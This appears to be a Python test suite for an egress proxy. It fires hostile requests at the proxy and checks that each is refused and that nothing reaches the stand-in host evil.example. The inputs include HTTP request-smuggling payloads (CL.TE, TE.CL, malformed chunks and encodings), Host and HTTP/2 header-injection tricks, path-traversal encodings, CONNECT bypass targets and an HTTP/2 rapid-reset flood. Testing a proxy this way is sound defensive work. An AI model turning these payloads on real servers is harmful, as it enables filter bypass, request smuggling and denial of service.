"""Requests that two readers may read differently."""

from egress.conftest import python
from egress.table import attack
from harness.previews import memory_mb


def refused(name, tries, stops, code, statuses, box="fenced", **values):
    """A case that sends one request; nothing may arrive, the answer is one of these or a closed connection."""

    @attack(name, tries, stops)
    def _(w):
        mark = w.mark()
        answer = python(getattr(w, box), f"say(attempt(lambda: {code}))", mark=mark, web=w.net.web, evil=w.net.evil, **values)
        w.nothing_arrived(mark)
        assert answer.get("status") in statuses or "error" in answer, answer
        return f"{answer.get('status', '')} {answer.get('body') or answer.get('error') or ''}".strip()


ONE_HOST = "each request must be for the host of its connection, said once"
refused("host-not-on-the-list", "HTTP with a Host header that is not allowed, at an allowed address", "the Host header is the host", "plain(web, request('/' + mark, 'evil.example'))", (403,))
refused("two-host-headers", "two Host headers, one of them allowed", ONE_HOST, "https('api.test.example', request('/' + mark, 'api.test.example', headers=[('Host', 'evil.example')]))", (400, 421))
refused("two-host-headers-over-http", "the same without TLS, in the other order", ONE_HOST, "plain(web, request('/' + mark, 'evil.example', headers=[('Host', 'other.test.example')]))", (400, 403))
refused("no-host-header", "HTTP/1.1 and HTTP/1.0 without a Host header", ONE_HOST, "plain(web, f'GET /{mark} HTTP/1.0\\r\\n\\r\\n'.encode())", (400,))
refused("absolute-form-for-another-host", "a whole address in the request line, another host than the Host header", ONE_HOST, "https('api.test.example', request('https://evil.example/' + mark, 'api.test.example'))", (400, 421))
refused("absolute-form-and-host-of-another", "a whole address that is allowed, and a Host header that is not", ONE_HOST, "https('api.test.example', request('https://api.test.example/' + mark, 'evil.example'))", (400, 421))
refused("user-in-the-authority", "`allowed@evil` and `evil@allowed` as host", "a host is a name and perhaps a port", "https('api.test.example', request('https://api.test.example@evil.example/' + mark, 'api.test.example@evil.example'))", (400, 421))
refused("port-in-the-host-header", "another port in the Host header than the connection's", ONE_HOST, "https('api.test.example', request('/' + mark, 'api.test.example:8443'))", (421, 400))
refused("nul-in-the-host-header", "NUL, tabs and more in the Host header", "bytes that no header or host name has are refused", "https('api.test.example', request('/' + mark, 'api.test.example\\0.evil.example'))", (400,))
refused("unicode-in-the-host-header", "a look-alike in the Host header, as bytes", "a host name is ASCII", "https('api.test.example', b'GET /' + mark.encode() + b' HTTP/1.1\\r\\nHost: ap\\xc4\\xb1.test.example\\r\\n\\r\\n')", (400, 421))
refused("comma-in-the-host-header", "a list of hosts", "a host is one", "https('api.test.example', request('/' + mark, 'api.test.example, evil.example'))", (400, 421))
refused("connect-inside-tls", "CONNECT to another host inside a connection to an allowed one", "it is not carried there", "https('api.test.example', f'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\nX: {mark}\\r\\n\\r\\n'.encode())", (405, 400, 421))
refused("method-of-a-rule", "POST to a host whose rule allows GET", "a rule's methods are all it allows", "get('paths.test.example', '/v1/' + mark, method='POST', body=b'x')", (403,))
refused("path-of-a-rule", "a path that the rule does not begin with", "a rule's paths are all it allows", "get('paths.test.example', '/v2/' + mark)", (403,))
refused("https-through-the-proxy-in-plain", "`GET https://…` sent to the proxy, which would have to begin TLS itself", "a request for https comes by CONNECT", "plain(PROXY[0], request('https://api.test.example/' + mark, 'api.test.example', headers={'Authorization': KEY}), PROXY[1])", (400, 403))


@attack("ways-out-of-a-path", "dot segments, percent signs, backslashes, double slashes, `;` and fragments that leave the path of a rule", "a path that most servers would read as leaving the prefix is not below it")
def _(w):
    mark = w.mark()
    paths = ["/v1/../", "/v1/%2e%2e/", "/v1/%2E./", "/v1/..%2f", "/v1/..%5c", "/v1/..\\", "/v1//../", "/v1/./../", "/v1;/../", "/V1/", "/%761/", "//v1/", "/v1/%252e%252e/"]
    code = """
good = get('paths.test.example', '/v1/ok?' + mark.replace('m', 'n', 1))
say([good['status'], [attempt(get, 'paths.test.example', path + mark) for path in paths]])
"""
    good, answers = python(w.fenced, code, mark=mark, paths=paths)
    assert good == 200
    arrived = [each["path"] for each in w.arrived(mark)]
    # What is written with percent signs of percent signs is one segment to every server that reads paths once.
    assert all(path.startswith("/v1/") and ".." not in path.replace("%252e", "") for path in arrived), arrived
    return f"{sum(answer.get('status') in (400, 403) for answer in answers)} of {len(answers)} refused, {arrived} went through"


SMUGGLED = "GET /{mark} HTTP/1.1\r\nHost: evil.example\r\nX-Smuggled: {mark}\r\n\r\n"


def smuggle(name, tries, stops, *heads):
    """Requests with a second one inside of them; the servers behind read leniently. The second must not be seen as one."""

    @attack(name, tries, stops)
    def _(w):
        seen = []
        for head in heads:
            mark = w.mark()
            inner = SMUGGLED.format(mark=mark)
            raw = head.replace("{inner}", inner).replace("{size}", str(len(inner))).replace("{hex}", f"{len(inner):x}")
            code = """
with tls('h1.test.example') as stream:
    stream.sendall(raw.encode('latin-1'))
    stream.settimeout(3)
    say(several(stream, 2))
"""
            answers = python(w.fenced, code, raw=raw)
            arrived = [each for each in w.arrived(mark) if each.get("path") == f"/{mark}"]
            assert not arrived, (raw, arrived)
            torn = [each for each in w.arrived(mark) if each["kind"] == "unreadable"]
            assert not torn, (raw, torn)
            assert sum(answer.get("status") == 200 for answer in answers) <= max(1, raw.count("Host: h1.test.example")), (raw, answers)
            seen.append(answers[0].get("status") or "closed")
        return f"answers {seen}"


POST = "POST /sink HTTP/1.1\r\nHost: h1.test.example\r\n"
smuggle("smuggling-length-and-chunks", "a request with both a Content-Length and a Transfer-Encoding, in both orders (CL.TE, TE.CL)", "a request says its length one way", POST + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}", POST + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n{hex}\r\n{inner}\r\n0\r\n\r\n")
smuggle("smuggling-two-lengths", "two lengths that differ, a list of lengths, signs, and blanks in one", "a length is one number", *(POST + f"{each}\r\n\r\n{{inner}}" for each in ("Content-Length: 0\r\nContent-Length: {size}", "Content-Length: 0, {size}", "Content-Length: +0", "Content-Length: 0x0", "Content-Length: -1", "Content-Length : {size}\r\nContent-Length: 0")))
smuggle("smuggling-odd-encodings", "transfer encodings that some servers take for chunked", "`chunked` and nothing else is an encoding", *(POST + f"{each}\r\n\r\n0\r\n\r\n{{inner}}" for each in ("Transfer-Encoding: xchunked\r\nContent-Length: 5", "Transfer-Encoding: chunked, identity", "Transfer-Encoding:\tchunked\r\nContent-Length: 5", "Transfer-Encoding: identity, chunked\r\nContent-Length: 5", "Transfer-Encoding : chunked\r\nContent-Length: 5", "Transfer-Encoding: \"chunked\"\r\nContent-Length: 5", "X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: 5")))
smuggle("smuggling-line-ends", "bare line feeds and carriage returns, NUL and folded lines in headers", "a head is read strictly and written anew", *(POST + each for each in ("X: a\rTransfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n{inner}", "X: a\0b\r\nContent-Length: 0\r\n\r\n{inner}", "Content-Length: 0\r\nX: y\r\n folded: 1\r\n\r\n{inner}")))
smuggle("smuggling-behind-an-upgrade", "the same with an Upgrade header, and behind a request that has one", "asking for an upgrade changes nothing about how requests are read", POST + "Connection: Upgrade\r\nUpgrade: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}", "GET /status/200 HTTP/1.1\r\nHost: h1.test.example\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n" + POST + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}")
smuggle("smuggling-chunks", "chunks with odd sizes and extensions", "chunks are read strictly and written anew", *(POST + "Transfer-Encoding: chunked\r\n\r\n" + each for each in ("0 \r\n\r\n{inner}", "0x0\r\n\r\n{inner}", "00000000000000000\r\n\r\n{inner}", "-0\r\n\r\n{inner}", "1;a=\"\r\n0\r\n\r\n{inner}\"\r\nx\r\n0\r\n\r\n")))


@attack("pipelined-for-another-host", "a second request on a kept-alive connection, for another host, pipelined and after the answer", "each request is judged by itself")
def _(w):
    mark = w.mark()
    code = """
found = []
for wait in (False, True):
    with tls('h1.test.example') as stream:
        first, second = request('/status/200', 'h1.test.example'), request('/' + mark, 'evil.example')
        if wait:
            stream.sendall(first)
            found.append(read_response(stream))
            stream.sendall(second)
            found.append(attempt(read_response, stream))
        else:
            stream.sendall(first + second)
            found += several(stream, 2)
say(found)
"""
    answers = python(w.fenced, code, mark=mark)
    assert [answer.get("status") for answer in answers] == [200, 421, 200, 421], answers
    w.nothing_arrived(mark)
    return f"200, then 421 {answers[1]['body']}"


def http2(name, tries, stops, fields, statuses=(400, 421, 403, 405), body="b''"):
    @attack(name, tries, stops)
    def _(w):
        seen = []
        for each in fields:
            mark = w.mark()
            answer = python(w.fenced, f"say(attempt(get2, 'api.test.example', [(n, v.replace('MARK', mark)) for n, v in fields], {body}))", mark=mark, fields=each)
            arrived = w.arrived(mark)
            assert not arrived, (each, arrived)
            fine = answer.get("status") in statuses or answer.get("reset") is not None or answer.get("goaway") is not None or answer.get("closed") or "error" in answer
            assert fine, (each, answer)
            seen.append(answer.get("status") or (f"reset {answer.get('reset')}" if answer.get("reset") is not None else "closed"))
        return f"answers {seen}"


def fields(authority="api.test.example", path="/MARK", method="GET", scheme="https", more=()):
    return [(":method", method), (":scheme", scheme), (":authority", authority), (":path", path), *more]


STRICT2 = "HTTP/2 is read strictly; host and authority have to agree"
http2("http2-host-and-authority", "a Host header beside another `:authority`", STRICT2, [fields(more=[("host", "evil.example")]), fields("evil.example", more=[("host", "api.test.example")])])
http2("http2-two-authorities", "two `:authority`, an empty one, and none", STRICT2, [[*fields(), (":authority", "evil.example")], [(":authority", "evil.example"), *fields()], fields(""), [(":method", "GET"), (":scheme", "https"), (":path", "/MARK"), ("host", "evil.example")]])
http2("http2-line-ends-in-fields", "carriage returns, line feeds and NUL in names, values and the path", STRICT2, [fields(more=[("x", "a\r\nhost: evil.example\r\nx: MARK")]), fields(more=[("x\r\ny", "MARK")]), fields(path="/ HTTP/1.1\r\nHost: evil.example\r\n\r\nGET /MARK"), fields(more=[("x", "a\0MARK")])])
http2("http2-headers-of-http1", "Transfer-Encoding, Connection and Upgrade headers over HTTP/2", STRICT2, [fields(method="POST", more=[("transfer-encoding", "chunked"), ("x", "MARK")]), fields(more=[("connection", "x"), ("x", "MARK")]), fields(more=[("upgrade", "h2c"), ("x", "MARK")])], body="b'0\\r\\n\\r\\n'")
http2("http2-paths", "paths that are whole addresses, have blanks, or are none", STRICT2, [fields(path="https://evil.example/MARK"), fields(path="/MARK HTTP/1.1\r\nHost: evil.example"), fields(path="MARK"), fields(path="", more=[("x", "MARK")])])
http2("http2-connect", "CONNECT over HTTP/2, plain and for a WebSocket, to another host", "it is not carried there", [[(":method", "CONNECT"), (":authority", "evil.example:443"), ("x", "MARK")], [(":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "https"), (":path", "/MARK"), (":authority", "evil.example")]])
http2("http2-schemes", "`http` and other schemes inside TLS", STRICT2, [fields(scheme="http"), fields(scheme="file"), fields(scheme="https://evil.example")])


@attack("http2-without-tls", "HTTP/2 in plain text, by prior knowledge and by an upgrade", "it is not taken without TLS, and the upgrade is not passed on")
def _(w):
    mark = w.mark()
    code = """
with tcp(web, 80) as stream:
    first = attempt(http2, stream, [(pseudo('evil.example', '/' + mark, scheme='http'), b'')])
second = attempt(plain, web, request('/status/200', 'other.test.example', headers={'Connection': 'Upgrade, HTTP2-Settings', 'Upgrade': 'h2c', 'HTTP2-Settings': 'AAMAAABkAAQAoAAAAAIAAAAA', 'X': mark}))
say([first, second])
"""
    first, second = python(w.listed, code, mark=mark, web=w.net.other)
    assert all(dict(each["headers"]).get("Upgrade") is None and each.get("host") == "other.test.example" for each in w.arrived(mark)), w.arrived(mark)
    assert second.get("status") != 101, second
    return f"{first.get('why') or 'closed'}; the upgrade: {second.get('status')} without it"


@attack("http2-floods", "streams that are reset as soon as they begin, more of them than may be open, a head without an end, bodies of empty frames", "after a few of them the connection is ended, and nothing is kept of them")
def _(w):
    mark = w.mark()
    code = """
head = b"".join(field(name, value) for name, value in pseudo("api.test.example", "/hang/" + mark))
def rapid(at): return frame(1, 5, 2 * at + 1, head) + frame(3, 0, 2 * at + 1, struct.pack("!I", 8))
def many(at): return frame(1, 5, 2 * at + 1, head)
def endless(at): return frame(1, 1, 1, head) if at == 0 else frame(9, 0, 1, field("x", "a" * 100)) * 100
def nothing(at): return frame(1, 4, 1, head.replace(b"GET", b"PUT")) if at == 0 else frame(0, 0, 1) * 100
def flood(piece):
    with tls("api.test.example", alpn=("h2",)) as stream:
        stream.settimeout(10)
        stream.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + frame(4, 0, 0))
        for at in range(20000):
            try:
                stream.sendall(piece(at))
            except OSError as error:
                return [at, type(error).__name__]
        return [20000, "all was taken"]
say([[flood(each) for each in (rapid, many, endless, nothing)], get("api.test.example", "/status/200")["status"]])
"""
    pid, before = w.server.process.pid, memory_mb(w.server.process.pid)
    floods, after = python(w.fenced, code, mark=mark)
    assert all(count < 20000 for count, _ in floods), floods
    assert after == 200 and w.server.process.pid == pid
    assert memory_mb(w.server.process.pid) < before + 64, (before, memory_mb(w.server.process.pid))
    return f"ended after {[count for count, _ in floods]} pieces"


@attack("proxy-to-other-ports-and-addresses", "CONNECT to ports and hosts that are not allowed, to addresses, and with odd targets", "the same rules as for every connection, before anything is dialled")
def _(w):
    mark = w.mark()
    targets = ["evil.example:443", "api.test.example:22", "api.test.example:8443", f"{w.net.evil}:443", f"{w.net.forbidden['10/8']}:80", "api.test.example:0", "api.test.example:99999", "api.test.example:443@evil.example:443", "evil.example:443#api.test.example:443", "api.test.example:443/..", "[::ffff:10.213.78.100]:80", "3355443200:80"]
    code = "say([attempt(lambda: through(target, host=f'{mark}.pages.example:443')) for target in targets])"
    before = w.net.now()
    answers = python(w.fenced, code, mark=mark, targets=targets)
    assert all(answer.get("status", 400) >= 400 for answer in answers), list(zip(targets, answers, strict=True))
    arrived = [each for each in w.net.records(before) if each["kind"] == "connection" and each["local"] != w.net.web]
    assert not arrived, arrived
    return ", ".join(f"{answer.get('status')} {answer.get('reason')}" for answer in answers[1:4])


@attack("line-ends-in-connect", "carriage returns and more headers in the target of a CONNECT", "a target is a host and a port")
def _(w):
    mark = w.mark()
    code = """
stream = tcp(*PROXY)
stream.sendall(f'CONNECT api.test.example:443 HTTP/1.1\\rX: {mark}\\r\\nHost: evil.example:443\\r\\n\\r\\nGET /{mark} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'.encode())
say(attempt(several, stream, 2))
"""
    answers = python(w.fenced, code, mark=mark)
    assert all(answer.get("status") != 200 for answer in answers), answers
    w.nothing_arrived(mark)
    return str(answers[0].get("status") or answers[0])[:100]


@attack("not-tls-in-a-tunnel", "a tunnel to an allowed host in which plain HTTP for another host, or no HTTP, follows", "what is inside a tunnel is judged like any connection")
def _(w):
    mark = w.mark()
    code = """
def inside(data):
    stream, answer = connect('api.test.example:443')
    stream.sendall(data)
    return {'got': stream.recv(2000)}
say([attempt(inside, data) for data in (request('/' + mark, 'evil.example'), b'\\0' + mark.encode() * 20)])
"""
    answers = python(w.fenced, code, mark=mark)
    assert all("200 OK" not in str(answer) for answer in answers), answers
    w.nothing_arrived(mark)
    return str(answers[0])[:150]


@attack("after-an-upgrade", "a WebSocket that the server does not agree to, and requests for another host right behind it", "without the server's 101 it is a request like any other, and the next is judged too")
def _(w):
    mark = w.mark()
    code = """
upgrade = [('Connection', 'Upgrade'), ('Upgrade', 'websocket'), ('Sec-WebSocket-Version', '13'), ('Sec-WebSocket-Key', 'dGhlIHNhbXBsZSBub25jZQ==')]
with tls('h1.test.example') as stream:
    stream.sendall(request('/no-upgrade', 'h1.test.example', headers=upgrade) + request('/' + mark, 'evil.example'))
    stream.settimeout(3)
    found = several(stream, 2)
with tls('h1.test.example') as stream:
    stream.sendall(request('/ws', 'h1.test.example', headers=upgrade))
    found.append(read_response(stream))
    stream.sendall(request('/' + mark, 'evil.example'))
    stream.settimeout(1)
    found.append(attempt(lambda: {'got': stream.recv(2000)}))
say(found)
"""
    answers = python(w.fenced, code, mark=mark)
    # Inside a real WebSocket they are bytes to the same server, whatever they say.
    assert not [each for each in w.arrived(mark) if each.get("path") == f"/{mark}"], w.arrived(mark)
    assert answers[0].get("status") != 101 and "200 OK" not in str(answers[-1].get("got")), answers
    return f"{[answer.get('status') for answer in answers]}"


@attack("websocket-to-another-host", "an upgrade for a host or path that is not allowed", "it is a request and is judged as one")
def _(w):
    mark = w.mark()
    code = "say([attempt(websocket, 'paths.test.example', '/v2/' + mark), attempt(websocket, 'h1.test.example', '/' + mark, {'Host': 'evil.example'})])"
    answers = python(w.fenced, code, mark=mark)
    assert all(answer.get("status") in (400, 403, 421) for answer in answers), answers
    w.nothing_arrived(mark)
    return f"{answers[0].get('status')} {answers[0].get('body') or answers[0].get('error')}"


@attack("requests-too-large", "heads without an end, thousands of headers, a target of a megabyte", "64 KB of head and 256 headers are the most")
def _(w):
    mark = w.mark()
    code = """
found = [attempt(https, 'h1.test.example', request('/' + mark, 'h1.test.example', headers=[(f'x-{i}', 'y' * 20) for i in range(5000)])),
         attempt(https, 'h1.test.example', request('/' + mark + 'z' * 1000000, 'h1.test.example')),
         attempt(https, 'h1.test.example', request('/' + mark, 'h1.test.example', headers=[('x', 'y' * 2000000)]))]
say([found, get('h1.test.example', '/status/200')['status']])
"""
    answers, after = python(w.fenced, code, mark=mark)
    assert after == 200 and all(answer.get("status") != 200 for answer in answers), answers
    w.nothing_arrived(mark)
    return str([answer.get("status") or answer.get("error") for answer in answers])[:120]
